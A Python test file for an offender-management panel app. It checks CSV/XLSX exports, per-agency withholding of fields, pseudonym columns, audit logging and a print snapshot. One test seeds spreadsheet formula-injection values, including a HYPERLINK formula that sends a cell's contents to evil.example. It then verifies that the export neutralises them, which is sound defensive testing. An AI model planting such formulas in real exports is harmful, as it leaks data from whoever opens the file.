"""Exports (CSV, XLSX) and the print snapshot: what each agency may see, formulas neutralised."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from cohort.models import Case
from core.extensions import db
from exchange.importing import apply_import, import_demo_cohort, plan_import
from exchange.spreadsheet import COLUMNS
from sharing.models import AccessEvent, IsaGrant
from tests.cohort.test_tracker_helpers import policy_for
from tests.exchange.test_import_helpers import as_table, exported, synthetic_rows

NAMES = [("Seán", "O'Brien"), ("Zoë", "Smith"), ("Lan", "Nguyễn Thị"), ("Łukasz", "Wojciechowski-Kaczmarek")]


def import_rows(partnership, rows, *, panel: str = "IOM", user: str = "probation", columns=COLUMNS):
    from panels.models import Panel

    policy = policy_for(partnership, user)
    panel_row = db.session.execute(db.select(Panel).filter_by(code=panel)).scalar_one()
    headers, table = as_table(rows, columns)
    plan = plan_import(panel_row, headers, table, policy, filename="test.csv")
    assert not plan.errors, plan.errors
    result = apply_import(plan, policy)
    db.session.commit()
    return result


@pytest.fixture
def named(partnership):
    rows = synthetic_rows(4)
    for row, (given, family) in zip(rows, NAMES, strict=True):
        row.update(given_name=given, family_name=family)
    import_rows(partnership, rows)
    return rows


def test_names_round_trip_through_import_page_and_export(named, login_as, client):
    login_as("police")
    html = client.get("/panels/IOM/tracker").get_data(as_text=True)
    for given, family in NAMES:
        assert f"{given} {family}".replace("'", "&#39;") in html
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/panels/IOM/export.{fmt}?purpose=panel_meeting")
        assert resp.status_code == 200
        headers, rows = exported(resp.data)
        names = {(r[headers.index("given_name")], r[headers.index("family_name")]) for r in rows}
        assert names == set(NAMES)


def test_csv_export_headers_and_log(named, login_as, client):
    login_as("police")  # POLICE reads identity, contact, offending, risk on IOM, not resettlement
    resp = client.get("/panels/IOM/export.csv?purpose=panel_meeting")
    assert resp.mimetype == "text/csv"
    # the register's number and the destroy-by date (30 days when no purpose was chosen) are in the name
    assert resp.headers["Content-Disposition"] == ('attachment; filename="IOM-cohort-2026-11-23-export-1'
                                                   '-destroy-by-2026-12-23.csv"')
    assert resp.headers["Cache-Control"] == "no-store"
    assert resp.data.startswith(b"\xef\xbb\xbf")
    headers, rows = exported(resp.data)
    assert headers == [*(c for c in COLUMNS if c not in ("accommodation", "employment")),
                       "status", "lead_officer", "next_review", "flags", "open_actions", "marking"]
    assert len(rows) == 4 and rows[0][0] == named[0]["ref"]
    event = db.session.execute(db.select(AccessEvent).filter_by(action="export")).scalar_one()
    assert event.user_email == "police@test.example" and event.panel_code == "IOM"
    assert "csv export: 4 case(s)" in event.detail and "risk" in event.categories


def test_dwp_export_lacks_contact_and_risk(named, login_as, client):
    login_as("dwp")
    for fmt in ("csv", "xlsx"):
        resp = client.get(f"/panels/IOM/export.{fmt}?purpose=panel_meeting")
        headers, rows = exported(resp.data)
        assert headers == ["ref", "given_name", "family_name", "aliases", "date_of_birth", "gender", "pnc", "cro",
                           "nomis", "crn", "accommodation", "employment", "ethnicity", "status", "flags", "marking"]
        text = "\n".join(",".join(r) for r in rows)
        for row in named:
            assert row["address"] not in text and row["postcode"] not in text
            assert row["risk_level"] not in headers


def test_identity_withheld_gives_a_pseudonym_column(named, login_as, client):
    from auth.models import Agency

    dwp = db.session.execute(db.select(Agency).filter_by(code="DWP")).scalar_one()
    db.session.execute(db.delete(IsaGrant).where(IsaGrant.agency_id == dwp.id, IsaGrant.category == "identity"))
    db.session.commit()
    login_as("dwp")
    headers, rows = exported(client.get("/panels/IOM/export.csv?purpose=panel_meeting").data)
    assert headers == ["ref", "pseudonym", "accommodation", "employment", "status", "flags", "marking"]
    assert all(r[1].startswith("Nominal ") for r in rows)
    body = client.get("/panels/IOM/export.csv?purpose=panel_meeting").data.decode("utf-8-sig")
    for given, family in NAMES:
        assert family not in body


def test_formulas_are_neutralised_in_csv_and_xlsx(partnership, login_as, client):
    rows = synthetic_rows(2)
    rows[0].update(given_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', family_name="+SUM(1,2)",
                   employment="@cmd", accommodation="-2+3")
    import_rows(partnership, rows)
    login_as("probation")

    csv_text = client.get("/panels/IOM/export.csv?purpose=panel_meeting").data.decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and "'+SUM(1,2)" in csv_text and "'@cmd" in csv_text and "'-2+3" in csv_text
    assert ",=HYPERLINK" not in csv_text and ",+SUM" not in csv_text

    data = client.get("/panels/IOM/export.xlsx?purpose=panel_meeting").data
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert cells["given_name"].value == rows[0]["given_name"] and cells["given_name"].data_type == "s"
    assert cells["family_name"].data_type == "s" and cells["employment"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_print_snapshot(named, login_as, client):
    login_as("police")
    resp = client.get("/panels/IOM/print?purpose=panel_meeting")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    assert "<title>IOM main panel: monthly snapshot – Manage risk panels</title>" in html
    assert "Generated on 23 November 2026 at 10:00am by Paula Police (POLICE)" in html
    assert "Current cases by RAG" in html and "Cases by status" in html
    for given, family in NAMES:
        assert f"{given} {family}".replace("'", "&#39;") in html
    assert "Withheld: health, substance misuse, resettlement" in html
    rag = {r: sum(1 for row in named if row["rag"] == r) for r in ("red", "amber", "green")}
    assert f'Red</th><td class="govuk-table__cell govuk-table__cell--numeric">{rag["red"]}<' in html
    assert 'Active</th><td class="govuk-table__cell govuk-table__cell--numeric">4<' in html
    event = db.session.execute(db.select(AccessEvent).filter_by(action="print")).scalar_one()
    assert event.user_email == "police@test.example" and "4 current case(s)" in event.detail


def test_print_for_dwp_has_no_rag(named, login_as, client):
    login_as("dwp")
    html = client.get("/panels/IOM/print?purpose=panel_meeting").get_data(as_text=True)
    assert "Current cases by RAG" not in html and "govuk-tag--red" not in html
    withheld = html[html.index("Withheld: "):].split("—")[0]
    assert all(c in withheld for c in ("contact details", "offending", "risk")) and "resettlement" not in withheld
    assert named[0]["ref"] in html


def test_exports_refused_outside_the_agreements(named, login_as, client):
    for short in ("nogrant", "admin"):
        login_as(short)
        for path in ("/panels/IOM/export.csv?purpose=panel_meeting", "/panels/IOM/export.xlsx?purpose=panel_meeting",
                     "/panels/IOM/print?purpose=panel_meeting"):
            assert client.get(path).status_code == 404, (short, path)
    login_as("police")
    assert client.get("/panels/IOM/export.pdf").status_code == 404
    assert db.session.scalar(db.select(db.func.count(AccessEvent.id)).filter_by(action="export")) == 0


def test_demo_cohort_loader(partnership):
    from auth.models import User
    from cohort.demo_data import demo_cohort

    coord = db.session.execute(db.select(User).filter_by(email="coord@test.example")).scalar_one()
    cohort = demo_cohort(seed=3, size=60)
    line = import_demo_cohort(cohort, coord)  # LACS may not write contact on IOM: a system load may
    db.session.commit()
    expected = len(cohort["IOM"]) + len(cohort["MAPPA"])
    assert line.startswith(f"Demo cohort: {expected} cases (IOM {len(cohort['IOM'])}, MAPPA {len(cohort['MAPPA'])})")
    assert "no panel for IOM-MID, SGV, DIP, MARAC" in line
    assert db.session.scalar(db.select(db.func.count(Case.id))) == expected
    event = db.session.execute(db.select(AccessEvent).filter_by(action="import", panel_code="IOM")).scalar_one()
    assert event.purpose.startswith("system load") and event.user_email == "coord@test.example"
    # People on both panels (the same PNC on both lists) are one nominal.
    iom_pncs = {r["pnc"] for r in cohort["IOM"] if r["pnc"]}
    shared = [r for r in cohort["MAPPA"] if r["pnc"] in iom_pncs]
    assert shared  # seed 3 puts three people on both panels
    for row in shared:
        case = db.session.execute(db.select(Case).filter_by(ref=row["ref"])).scalar_one()
        assert sorted(c.panel.code for c in case.nominal.cases) == ["IOM", "MAPPA"]
